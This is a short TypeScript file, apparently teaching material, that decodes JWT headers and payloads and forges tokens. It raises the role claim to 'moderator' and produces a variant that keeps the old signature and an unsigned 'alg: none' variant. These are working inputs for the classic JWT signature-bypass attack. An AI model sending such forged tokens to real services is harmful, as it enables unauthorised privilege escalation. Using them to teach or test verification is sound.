/**
 * Reading and forging JWTs in the browser, without a JWT library and without any key: a JWT is
 * three base64url parts, `header.payload.signature`, and the first two are plain JSON anyone can
 * read and rewrite. Only the signature (which the browser cannot make) tells a forgery apart.
 */

const decoder = new TextDecoder()
const encoder = new TextEncoder()

function fromBase64Url(part: string): string {
  const base64 = part.replace(/-/g, '+').replace(/_/g, '/')
  const bytes = Uint8Array.from(atob(base64 + '='.repeat((4 - (base64.length % 4)) % 4)), (c) => c.charCodeAt(0))
  return decoder.decode(bytes)
}

function toBase64Url(text: string): string {
  const binary = Array.from(encoder.encode(text), (b) => String.fromCharCode(b)).join('')
  return btoa(binary).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '')
}

/**
 * A token as a learner reads it: decoded header and payload (text), and the signature's length.
 *
 * @example
 * describeToken('eyJhbGciOiJub25lIn0.eyJyb2xlIjoibGVhcm5lciJ9.') // => 'header {"alg":"none"} · payload {"role":"learner"} · no signature'
 */
export function describeToken(token: string): string {
  const [header = '', payload = '', signature = ''] = token.split('.')
  try {
    const sig = signature ? `signature (${signature.length} characters)` : 'no signature'
    return `header ${fromBase64Url(header)} · payload ${fromBase64Url(payload)} · ${sig}`
  } catch {
    return `not a JWT (${token.length} characters)`
  }
}

/** The payload's claims, with `role` replaced. */
function withRole(payload: string, role: string): string {
  const claims: unknown = JSON.parse(fromBase64Url(payload))
  if (typeof claims !== 'object' || claims === null) throw new Error('the payload is not a JSON object')
  return toBase64Url(JSON.stringify({ ...claims, role }))
}

/**
 * Two forgeries of a genuine token: its payload edited to `role: "moderator"` with the old
 * signature kept, and the same payload with an unsigned `alg: "none"` header.
 *
 * @example
 * const { edited, algNone } = forgeTokens(token)
 */
export function forgeTokens(token: string): { edited: string; algNone: string } {
  const [header = '', payload = '', signature = ''] = token.split('.')
  const moderator = withRole(payload, 'moderator')
  return {
    edited: `${header}.${moderator}.${signature}`,
    algNone: `${toBase64Url(JSON.stringify({ alg: 'none', typ: 'JWT' }))}.${moderator}.`,
  }
}
